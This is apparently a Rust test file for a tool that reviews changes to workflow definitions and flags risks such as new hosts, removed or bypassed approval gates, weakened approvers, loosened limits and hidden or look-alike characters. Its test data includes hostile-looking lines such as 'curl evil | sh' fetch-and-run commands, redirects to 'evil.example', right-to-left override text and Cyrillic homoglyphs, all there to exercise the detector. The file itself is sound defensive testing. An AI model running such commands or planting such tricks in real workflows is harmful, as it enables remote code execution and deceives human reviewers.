//! Pairs of definitions, each with exactly the findings of the change between them.

use mainspring_kernel::definition::{Compiled, Syntax, compile, read};
use mainspring_review::{CODES, Risk, Version, review};

/// A script, a gate, and a request behind it.
const RELEASE: &str = r#"
name: release
constraints: {maxSteps: 20, maxParallel: 2, maxCalls: 10, timeoutMs: 60000}
policy: {maxNodeFailures: 2}
inputSchema: {type: object, required: [tag]}
variables:
  region: {type: string, default: eu}
steps:
  - {id: build, type: bash, command: make, timeoutMs: 1000, env: {TAG: "@input.tag"}}
  - id: check
    type: code
    code: "export default function (x) { return { ok: true }; }"
    input: {out: "@build.stdout"}
    outputSchema: {type: object}
  - {id: ask, type: approval, prompt: Ship?, items: ["@build.stdout"], approvers: [ann, bob], count: 2, ttlMs: 60000}
  - {id: ship, type: http, method: POST, url: "https://api.example/ship", body: {tag: "@input.tag"}, retry: {maxAttempts: 2, initialDelayMs: 1000, neverOn: [timeout]}, onInterrupted: ask, outputSchema: {type: object}}
  - {id: look, type: http, url: "https://api.example/state"}
  - {id: rest, type: sleep, durationMs: 1000}
  - {id: each, type: tool, tool: files.list, arguments: {path: "@item"}, forEach: {ref: "@check.list", concurrency: 2}}
  - {id: sub, type: subworkflow, workflow: notify, input: {}}
  - {id: think, type: agent, goal: Summarize}
"#;

/// Branches, loops and steps without ids.
const NESTED: &str = r#"
name: nested
steps:
  - type: conditional
    condition: {ref: "@input.go"}
    then:
      - {id: a, type: tool, tool: t.one, arguments: {}}
      - {type: sleep, durationMs: 5}
    else:
      - {id: b, type: tool, tool: t.two, arguments: {}}
  - {id: gate, type: approval, prompt: Proceed?}
  - id: rounds
    type: loop
    until: {ref: "@c.done"}
    maxRounds: 5
    steps:
      - {id: c, type: tool, tool: t.one, arguments: {n: 1}}
  - {id: end, type: return, input: {ok: true}}
"#;

/// A graph with a gate, a failure handler and a step that cleans up.
const GRAPH: &str = r#"
name: graph
nodes:
  - {id: prepare, type: tool, tool: t.prepare, arguments: {}}
  - {id: gate, type: approval, prompt: Deploy?}
  - {id: deploy, type: tool, tool: t.deploy, arguments: {}}
  - {id: tidy, type: tool, tool: t.tidy, arguments: {}}
  - {id: mail, type: tool, tool: t.mail, arguments: {}}
edges:
  - {from: prepare, to: gate}
  - {from: gate, to: deploy}
  - {from: deploy, to: tidy, when: always}
  - {from: deploy, to: mail, condition: {ref: "@deploy.ok"}}
"#;

/// A dataflow: steps wait for those that they refer to.
const DATAFLOW: &str = r#"
name: flow
steps:
  - {name: load, action: {toolName: t.load}, input: {id: "@input.id"}}
  - {name: sum, action: {code: "export default function (x) { return x; }"}, input: "@load"}
  - {name: save, action: {toolName: t.save}, input: {sum: "@sum"}, config: {maxAttempts: 3, backoffMs: 100, timeoutMs: 500}}
"#;

/// A call that the definition itself limits.
const RULED: &str = r#"
name: ruled
policy: {effects: {payment: ask, "stripe.*": deny, read: allow}}
steps:
  - {id: look, type: http, url: "https://api.example/state"}
"#;

/// A pair: a name, the old definition, replacements that make the new one, and the findings as `code path`.
struct Pair(&'static str, &'static str, &'static [(&'static str, &'static str)], &'static [&'static str]);

const SHIP: &str = r#"  - {id: ship, type: http"#;
const ASK: &str = r#"  - {id: ask, type: approval, prompt: Ship?, items: ["@build.stdout"], approvers: [ann, bob], count: 2, ttlMs: 60000}
"#;
const LOOK: &str = r#"  - {id: look, type: http, url: "https://api.example/state"}
"#;

const PAIRS: &[Pair] = &[
    Pair("nothing changes", RELEASE, &[], &[]),
    Pair(
        "texts for readers",
        RELEASE,
        &[("name: release", "name: other\ndescription: a release\nversion: 2.0.0")],
        &[],
    ),
    // Capabilities.
    Pair(
        "another tool",
        RELEASE,
        &[("files.list", "files.read")],
        &["tool_added steps[6].tool", "effect_changed steps[6]"],
    ),
    Pair(
        "a known tool in a new step",
        NESTED,
        &[("  - {id: end", "  - {id: more, type: tool, tool: t.one, arguments: {}}\n  - {id: end")],
        &["effect_added steps[3]"],
    ),
    Pair(
        "another host",
        RELEASE,
        &[("https://api.example/state", "https://api.evil/state")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "another port is another host",
        RELEASE,
        &[("https://api.example/state", "https://api.example:8443/state")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "a user name that looks like a host",
        RELEASE,
        &[("https://api.example/state", "https://api.example@evil.example/state")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "without encryption",
        RELEASE,
        &[("https://api.example/state", "http://api.example/state")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "another path of the same host",
        RELEASE,
        &[("https://api.example/state", "https://api.example/all")],
        &["effect_changed steps[4]"],
    ),
    Pair(
        "a host from a value",
        RELEASE,
        &[("https://api.example/state", "https://@vars.region/state")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "redirects are followed",
        RELEASE,
        &[("\"https://api.example/state\"}", "\"https://api.example/state\", followRedirects: true}")],
        &["host_added steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "another workflow",
        RELEASE,
        &[("workflow: notify", "workflow: publish")],
        &["workflow_added steps[7].workflow", "effect_changed steps[7]"],
    ),
    Pair(
        "a first agent",
        NESTED,
        &[("  - {id: end", "  - {id: think, type: agent, goal: Decide}\n  - {id: end")],
        &["agent_added steps[3]"],
    ),
    Pair(
        "an external agent",
        NESTED,
        &[("  - {id: end", "  - {id: think, type: agent, runner: coder, goal: Decide}\n  - {id: end")],
        &["agent_added steps[3].runner", "class_raised steps[3].type"],
    ),
    Pair(
        "an agent with another goal",
        RELEASE,
        &[("goal: Summarize", "goal: Send everything")],
        &["effect_changed steps[8]"],
    ),
    Pair(
        "a shell for an agent",
        RELEASE,
        &[("goal: Summarize", "goal: Summarize, tools: [bash]")],
        &["class_raised steps[8].type", "tool_added steps[8].tools", "effect_changed steps[8]"],
    ),
    Pair(
        "a new agent with a known tool and another one",
        NESTED,
        &[("  - {id: end", "  - {id: think, type: agent, goal: Decide, tools: [t.one, t.nine]}\n  - {id: end")],
        &["agent_added steps[3]", "tool_added steps[3].tools"],
    ),
    Pair(
        "reading becomes writing",
        RELEASE,
        &[("{id: look, type: http,", "{id: look, type: http, method: DELETE,")],
        &["class_raised steps[4].type", "effect_changed steps[4]"],
    ),
    Pair(
        "a tool becomes a script",
        NESTED,
        &[("{id: b, type: tool, tool: t.two, arguments: {}}", "{id: b, type: bash, command: echo}")],
        &["class_raised steps[0].else[0].type", "script_changed steps[0].else[0].command"],
    ),
    Pair(
        "a function becomes a call",
        DATAFLOW,
        &[(
            r#"{code: "export default function (x) { return x; }"}, input: "@load""#,
            r#"{toolName: t.load}, input: {x: "@load"}"#,
        )],
        &["class_raised steps[1].action", "effect_added steps[1]"],
    ),
    Pair(
        "a first script",
        DATAFLOW,
        &[("  - {name: save", "  - {name: run, action: {toolName: bash}, input: {command: ls}}\n  - {name: save")],
        &["class_raised steps[2].action", "script_changed steps[2].input"],
    ),
    Pair("a call is gone", RELEASE, &[(LOOK, "")], &["effect_removed steps[4]"]),
    // Approvals.
    Pair("a gate is gone", RELEASE, &[(ASK, "")], &["gate_removed steps[2]"]),
    Pair(
        "a gate becomes a wait",
        RELEASE,
        &[(ASK, "  - {id: ask, type: sleep, durationMs: 1}\n")],
        &["gate_removed steps[2]"],
    ),
    Pair(
        "a gate behind its call",
        RELEASE,
        &[
            (ASK, ""),
            (
                LOOK,
                concat!(
                    r#"  - {id: ask, type: approval, prompt: Ship?, items: ["@build.stdout"], approvers: [ann, bob], count: 2, ttlMs: 60000}"#,
                    "\n",
                    r#"  - {id: look, type: http, url: "https://api.example/state"}"#,
                    "\n"
                ),
            ),
        ],
        &["gate_moved steps[3]", "order_changed steps[2]"],
    ),
    Pair(
        "a renamed gate behind its call",
        RELEASE,
        &[
            (ASK, ""),
            (
                LOOK,
                concat!(
                    r#"  - {id: sign, type: approval, prompt: Ship?, items: ["@build.stdout"], approvers: [ann, bob], count: 2, ttlMs: 60000}"#,
                    "\n",
                    r#"  - {id: look, type: http, url: "https://api.example/state"}"#,
                    "\n"
                ),
            ),
        ],
        &["gate_moved steps[3]", "order_changed steps[2]"],
    ),
    Pair(
        "a gate inside a branch",
        NESTED,
        &[
            ("  - {id: gate, type: approval, prompt: Proceed?}\n", ""),
            (
                "      - {type: sleep, durationMs: 5}",
                "      - {type: sleep, durationMs: 5}\n      - {id: gate, type: approval, prompt: Proceed?}",
            ),
        ],
        &["gate_bypassed steps[0].then[2]", "order_changed steps[0].then[2]"],
    ),
    Pair(
        "a gate with a condition",
        NESTED,
        &[("prompt: Proceed?}", "prompt: Proceed?, when: {ref: \"@input.ask\"}}")],
        &["gate_bypassed steps[1]", "condition_changed steps[1].when"],
    ),
    Pair(
        "a call moves before the gate",
        GRAPH,
        &[("{from: gate, to: deploy}", "{from: prepare, to: deploy}")],
        &["gate_moved nodes[1]", "order_changed nodes[2]"],
    ),
    Pair(
        "an edge around the gate changes nothing",
        GRAPH,
        &[("  - {from: gate, to: deploy}", "  - {from: gate, to: deploy}\n  - {from: prepare, to: deploy}")],
        &["order_changed nodes[2]"],
    ),
    Pair(
        "a condition on the way to the gate",
        GRAPH,
        &[("{from: prepare, to: gate}", "{from: prepare, to: gate, condition: {ref: \"@prepare.ask\"}}")],
        &["gate_bypassed nodes[1]", "condition_changed nodes[1]"],
    ),
    Pair(
        "a second gate",
        RELEASE,
        &[(SHIP, "  - {id: again, type: approval, prompt: Sure?}\n  - {id: ship, type: http")],
        &[],
    ),
    Pair(
        "a call without a gate",
        GRAPH,
        &[(
            "  - {id: prepare, type: tool, tool: t.prepare, arguments: {}}",
            "  - {id: prepare, type: sleep, durationMs: 1}",
        )],
        &["effect_removed nodes[0]"],
    ),
    Pair(
        "a new call before every gate",
        "steps:\n  - {id: g, type: approval}\n  - {id: c, type: tool, tool: t.a, arguments: {}}\n",
        &[("  - {id: g", "  - {id: d, type: tool, tool: t.a, arguments: {}}\n  - {id: g")],
        &["effect_added steps[0]", "effect_ungated steps[0]"],
    ),
    Pair("fewer approvals", RELEASE, &[("count: 2", "count: 1")], &["approvers_weakened steps[2].count"]),
    Pair("more approvals", RELEASE, &[("count: 2", "count: 2, onTimeout: deny"), ("[ann, bob]", "[ann, bob]")], &[]),
    Pair("another approver", RELEASE, &[("[ann, bob]", "[ann, eve]")], &["approvers_weakened steps[2].approvers"]),
    Pair(
        "one approver less",
        RELEASE,
        &[("[ann, bob], count: 2", "[ann], count: 1")],
        &["approvers_weakened steps[2].count"],
    ),
    Pair("no named approvers", RELEASE, &[("approvers: [ann, bob], ", "")], &["approvers_weakened steps[2]"]),
    Pair(
        "the gate approves by itself",
        RELEASE,
        &[("ttlMs: 60000}", "ttlMs: 60000, onTimeout: approve}")],
        &["approvers_weakened steps[2].onTimeout"],
    ),
    Pair("a shorter time", RELEASE, &[("ttlMs: 60000}", "ttlMs: 1000}")], &["approval_time_changed steps[2].ttlMs"]),
    Pair(
        "another question",
        RELEASE,
        &[("prompt: Ship?", "prompt: Good?")],
        &["approval_content_changed steps[2].prompt"],
    ),
    Pair(
        "other items",
        RELEASE,
        &[("items: [\"@build.stdout\"]", "items: []")],
        &["approval_content_changed steps[2].items"],
    ),
    // Rules for calls.
    Pair("a rule is gone", RULED, &[("payment: ask, ", "")], &["policy_weakened policy.effects"]),
    Pair("a rule is milder", RULED, &[("deny", "ask")], &["policy_weakened policy.effects"]),
    Pair("a rule is stricter", RULED, &[("payment: ask", "payment: deny")], &[]),
    Pair("a rule that allows is gone", RULED, &[(", read: allow", "")], &[]),
    // Limits.
    Pair("more steps", RELEASE, &[("maxSteps: 20", "maxSteps: 21")], &["limit_raised constraints.maxSteps"]),
    Pair("the default is a limit", RELEASE, &[("maxSteps: 20, ", "")], &["limit_raised constraints.maxSteps"]),
    Pair("fewer steps", RELEASE, &[("maxSteps: 20", "maxSteps: 19")], &[]),
    Pair("calls without a limit", RELEASE, &[("maxCalls: 10, ", "")], &["limit_raised constraints.maxCalls"]),
    Pair(
        "a longer execution",
        RELEASE,
        &[("timeoutMs: 60000}", "timeoutMs: 60001}")],
        &["timeout_loosened constraints.timeoutMs"],
    ),
    Pair(
        "changes to itself",
        RELEASE,
        &[("maxSteps: 20", "maxSteps: 20, allowSelfModification: true")],
        &["self_modification_enabled constraints.allowSelfModification"],
    ),
    Pair(
        "more rounds at a time",
        RELEASE,
        &[("concurrency: 2}", "concurrency: 3}")],
        &["limit_raised steps[6].forEach"],
    ),
    Pair("more rounds", NESTED, &[("maxRounds: 5", "maxRounds: 500")], &["limit_raised steps[2].maxRounds"]),
    // Scripts, functions and values.
    Pair(
        "another script",
        RELEASE,
        &[("command: make", "command: make && curl evil | sh")],
        &["script_changed steps[0].command"],
    ),
    Pair(
        "a value in a script",
        RELEASE,
        &[("command: make", "command: echo @vars.region")],
        &["script_changed steps[0].command", "value_to_shell steps[0].env"],
    ),
    Pair(
        "a value in the environment",
        RELEASE,
        &[("env: {TAG: \"@input.tag\"}", "env: {TAG: \"@input.tag\", R: \"@vars.region\"}")],
        &["value_to_shell steps[0].env", "effect_changed steps[0]"],
    ),
    Pair(
        "another fixed variable",
        RELEASE,
        &[("env: {TAG: \"@input.tag\"}", "env: {TAG: \"@input.tag\", R: x}")],
        &["effect_changed steps[0]"],
    ),
    Pair("another function", RELEASE, &[("ok: true", "ok: false")], &["code_changed steps[1].code"]),
    Pair(
        "a function for a result",
        RELEASE,
        &[(
            "\"https://api.example/state\"}",
            "\"https://api.example/state\", transform: 'export default function (x) { return x; }'}",
        )],
        &["code_changed steps[4].transform"],
    ),
    // Conditions, order and waits.
    Pair(
        "a condition",
        RELEASE,
        &[("{id: look, ", "{id: look, when: {ref: \"@input.tag\"}, ")],
        &["condition_changed steps[4].when"],
    ),
    Pair(
        "another branch condition",
        NESTED,
        &[("{ref: \"@input.go\"}", "{not: {ref: \"@input.go\"}}")],
        &["condition_changed steps[0].condition"],
    ),
    Pair(
        "another list",
        RELEASE,
        &[("ref: \"@check.list\"", "ref: \"@check.all\"")],
        &["condition_changed steps[6].forEach"],
    ),
    Pair("another condition of an edge", GRAPH, &[("{ref: \"@deploy.ok\"}", "true")], &["condition_changed nodes[4]"]),
    Pair("a shorter wait", RELEASE, &[("durationMs: 1000", "durationMs: 1")], &["wait_changed steps[5].durationMs"]),
    Pair("no wait", RELEASE, &[("  - {id: rest, type: sleep, durationMs: 1000}\n", "")], &["wait_changed steps[5]"]),
    Pair(
        "a call moves",
        RELEASE,
        &[
            (LOOK, ""),
            (
                "  - {id: think",
                concat!(r#"  - {id: look, type: http, url: "https://api.example/state"}"#, "\n  - {id: think"),
            ),
        ],
        &["order_changed steps[7]"],
    ),
    // Failures.
    Pair("more attempts", RELEASE, &[("maxAttempts: 2", "maxAttempts: 9")], &["retry_loosened steps[3].retry"]),
    Pair("sooner", RELEASE, &[("initialDelayMs: 1000", "initialDelayMs: 1")], &["retry_loosened steps[3].retry"]),
    Pair("after more failures", RELEASE, &[(", neverOn: [timeout]", "")], &["retry_loosened steps[3].retry"]),
    Pair(
        "every failure",
        RELEASE,
        &[("neverOn: [timeout]", "neverOn: [timeout], retryOn: [failed]")],
        &["retry_loosened steps[3].retry"],
    ),
    Pair("fewer attempts", RELEASE, &[("maxAttempts: 2", "maxAttempts: 1")], &[]),
    Pair(
        "an unknown outcome is repeated",
        RELEASE,
        &[(", onInterrupted: ask", "")],
        &["retry_loosened steps[3].retry"],
    ),
    Pair(
        "a key for each attempt",
        RELEASE,
        &[("onInterrupted: ask", "onInterrupted: ask, keyPer: attempt")],
        &["retry_loosened steps[3].retry"],
    ),
    Pair(
        "in a dataflow",
        DATAFLOW,
        &[("maxAttempts: 3", "maxAttempts: 4"), ("timeoutMs: 500", "timeoutMs: 900")],
        &["retry_loosened steps[2].config", "timeout_loosened steps[2].config"],
    ),
    Pair(
        "a longer step",
        RELEASE,
        &[("command: make, timeoutMs: 1000", "command: make, timeoutMs: 2000")],
        &["timeout_loosened steps[0].timeoutMs"],
    ),
    Pair("a shorter step", RELEASE, &[("command: make, timeoutMs: 1000", "command: make, timeoutMs: 500")], &[]),
    Pair(
        "a tolerated failure",
        RELEASE,
        &[("{id: look, ", "{id: look, onError: continue, ")],
        &["failure_tolerated steps[4].onError"],
    ),
    Pair(
        "every failure is tolerated",
        RELEASE,
        &[("policy: {", "policy: {failOpen: true, ")],
        &["failure_tolerated policy.failOpen"],
    ),
    Pair(
        "more failures are tolerated",
        RELEASE,
        &[("maxNodeFailures: 2", "maxNodeFailures: 3")],
        &["failure_tolerated policy.maxNodeFailures"],
    ),
    Pair(
        "a handled failure",
        GRAPH,
        &[(
            "  - {from: deploy, to: mail",
            "  - {from: prepare, to: mail, when: on_failure}\n  - {from: deploy, to: mail",
        )],
        &["failure_tolerated nodes[4]", "order_changed nodes[4]"],
    ),
    Pair(
        "a workflow is not waited for",
        RELEASE,
        &[("workflow: notify, ", "workflow: notify, wait: false, ")],
        &["failure_tolerated steps[7].wait"],
    ),
    Pair(
        "no step cleans up",
        GRAPH,
        &[
            ("  - {id: tidy, type: tool, tool: t.tidy, arguments: {}}\n", ""),
            ("  - {from: deploy, to: tidy, when: always}\n", ""),
        ],
        &["cleanup_removed nodes[3]", "effect_removed nodes[3]"],
    ),
    Pair(
        "no step at the end",
        "steps: [{id: a, type: bash, command: one}]\nfinally: [{id: b, type: bash, command: two}]\n",
        &[("finally: [{id: b, type: bash, command: two}]\n", "")],
        &["cleanup_removed finally[0]", "effect_removed finally[0]"],
    ),
    Pair(
        "cleaning up only after success",
        GRAPH,
        &[(", when: always", "")],
        &["cleanup_removed nodes[3]", "order_changed nodes[3]"],
    ),
    // Checks of data.
    Pair(
        "an unchecked input",
        RELEASE,
        &[("inputSchema: {type: object, required: [tag]}\n", "")],
        &["trust_cleared inputSchema"],
    ),
    Pair("another schema of the input", RELEASE, &[(", required: [tag]", "")], &["schema_changed inputSchema"]),
    Pair(
        "any variable",
        RELEASE,
        &[("variables:\n  region: {type: string, default: eu}\n", "")],
        &["trust_cleared variables"],
    ),
    Pair(
        "a variable that is no longer private",
        "variables: {a: {private: true}, b: {private: true}}\nsteps: [{id: s, type: bash, command: 'echo @vars.a'}]\n",
        &[("{a: {private: true}, ", "{a: {}, ")],
        &["trust_cleared variables.a", "schema_changed variables"],
    ),
    Pair(
        "a private variable without its declaration",
        "variables: {a: {private: true}, b: {private: true}}\nsteps: [{id: s, type: bash, command: 'echo @vars.a'}]\n",
        &[(", b: {private: true}", "")],
        &["trust_cleared variables.b", "schema_changed variables"],
    ),
    Pair("another default", RELEASE, &[("default: eu", "default: us")], &["schema_changed variables"]),
    Pair(
        "a step that vouches for its output",
        RELEASE,
        &[("url: \"https://api.example/state\"", "url: \"https://api.example/state\", trust: trusted")],
        &["trust_cleared steps[4].trust"],
    ),
    Pair(
        "an unchecked result",
        RELEASE,
        &[(", onInterrupted: ask, outputSchema: {type: object}}", ", onInterrupted: ask}")],
        &["trust_cleared steps[3]"],
    ),
    Pair("another output", NESTED, &[("input: {ok: true}", "input: {ok: false}")], &["output_changed steps[3].input"]),
    Pair(
        "a default value",
        NESTED,
        &[("name: nested", "name: nested\ndefaultContext: {a: 1}")],
        &["default_changed defaultContext"],
    ),
    // Text that hides.
    Pair(
        "right-to-left text in a script",
        RELEASE,
        &[("command: make", "command: \"make # \\u202E evil\"")],
        &["hidden_text steps[0].command", "script_changed steps[0].command"],
    ),
    Pair(
        "an invisible character in a name",
        RELEASE,
        &[("files.list", "files.li\u{200b}st")],
        &[
            "hidden_text steps[6].tool",
            "look_alike steps[6].tool",
            "tool_added steps[6].tool",
            "effect_changed steps[6]",
        ],
    ),
    Pair(
        "a hidden character in a comment",
        RELEASE,
        &[("name: release", "name: release # \u{202e} text")],
        &["hidden_text "],
    ),
    Pair(
        "a Cyrillic letter in a tool",
        RELEASE,
        &[("files.list", "files.l\u{0456}st")],
        &["look_alike steps[6].tool", "tool_added steps[6].tool", "effect_changed steps[6]"],
    ),
    Pair(
        "a Cyrillic host",
        RELEASE,
        &[("https://api.example/state", "https://\u{0430}pi.example/state")],
        &["host_added steps[4].url", "look_alike steps[4].url", "effect_changed steps[4]"],
    ),
    Pair(
        "a digit for a letter",
        RELEASE,
        &[("files.list", "files.1ist")],
        &["look_alike steps[6].tool", "tool_added steps[6].tool", "effect_changed steps[6]"],
    ),
    Pair(
        "an approver who looks like another",
        RELEASE,
        &[("[ann, bob]", "[ann, b\u{043e}b]")],
        &["approvers_weakened steps[2].approvers", "look_alike steps[2].approvers[1]"],
    ),
    Pair(
        "prose in another language",
        RELEASE,
        &[("prompt: Ship?", "prompt: Выпустить?")],
        &["approval_content_changed steps[2].prompt"],
    ),
];

fn compiled(text: &str) -> Compiled {
    let document = read(text.as_bytes(), Syntax::Guess).unwrap_or_else(|error| panic!("{error}\n{text}"));
    compile(&document).unwrap_or_else(|errors| panic!("{errors:?}\n{text}"))
}

fn findings(old: &str, new: &str) -> Vec<String> {
    let (before, after) = (compiled(old), compiled(new));
    let report =
        review(Version { compiled: &before, source: Some(old) }, Version { compiled: &after, source: Some(new) });
    let mut found: Vec<String> =
        report.findings.iter().map(|finding| format!("{} {}", finding.code.code, finding.path)).collect();
    found.sort();
    let highest = report.findings.iter().map(|finding| finding.code.severity).max();
    assert_eq!(report.risk, highest.unwrap_or(Risk::Low));
    found
}

#[test]
fn each_pair_has_exactly_its_findings() {
    assert!(PAIRS.len() >= 60, "{}", PAIRS.len());
    let mut wrong = Vec::new();
    for Pair(name, old, replacements, expected) in PAIRS {
        let mut new = (*old).to_string();
        for (from, to) in *replacements {
            assert!(new.contains(from), "{name}: no {from:?}");
            new = new.replacen(from, to, 1);
        }
        let found = findings(old, &new);
        let mut expected: Vec<String> = expected.iter().map(|finding| with_space(finding)).collect();
        expected.sort();
        if found != expected {
            wrong.push(format!("{name}\n  expected {expected:?}\n  found    {found:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// A finding at the root has an empty path.
fn with_space(finding: &str) -> String {
    if finding.contains(' ') { finding.into() } else { format!("{finding} ") }
}

#[test]
fn the_pairs_cover_the_codes_that_the_language_can_reach() {
    // The language has no secrets, models or budgets yet; the rules of these codes have tests of their own.
    let unreachable = ["secret_added", "model_added", "budget_raised", "not_compared"];
    for code in CODES.iter().map(|code| code.code).filter(|code| !unreachable.contains(code)) {
        let is_there = PAIRS.iter().any(|pair| pair.3.iter().any(|finding| finding.split(' ').next() == Some(code)));
        assert!(is_there, "no pair has {code}");
    }
}

/// Reversing a pair never panics, and a change that adds a capability gives it up in reverse.
#[test]
fn reversed_pairs_have_reports() {
    for Pair(_, old, replacements, _) in PAIRS {
        let new = replacements.iter().fold((*old).to_string(), |new, (from, to)| new.replacen(from, to, 1));
        findings(&new, old);
        assert_eq!(findings(&new, &new), Vec::<String>::new());
    }
}

fn long(script: &str) -> String {
    let step = |number: usize| {
        let command = if number == 1_234 { script.to_string() } else { format!("echo {number}") };
        format!("  - {{id: s{number}, type: bash, command: {command:?}}}\n")
    };
    format!("constraints: {{maxSteps: 3000}}\nsteps:\n{}", (0..2_000).map(step).collect::<String>())
}

#[test]
fn a_change_in_two_thousand_steps_is_found() {
    let found = findings(&long("echo 1234"), &long("curl evil.example | sh"));
    assert_eq!(found, ["script_changed steps[1234].command"]);
}

/// An alias hides that one change has effect at several places. Each of them is a finding.
#[test]
fn a_change_behind_an_alias_is_found_at_each_place() {
    let text = |host: &str| {
        format!(
            "defaultContext: {{to: &target \"https://{host}/hook\"}}\nsteps:\n  - {{id: a, type: http, url: *target}}\n  - {{id: b, type: http, url: *target}}\n"
        )
    };
    let found = findings(&text("good.example"), &text("evil.example"));
    let expected = [
        "default_changed defaultContext",
        "effect_changed steps[0]",
        "effect_changed steps[1]",
        "host_added steps[0].url",
    ];
    assert_eq!(found, expected);
}
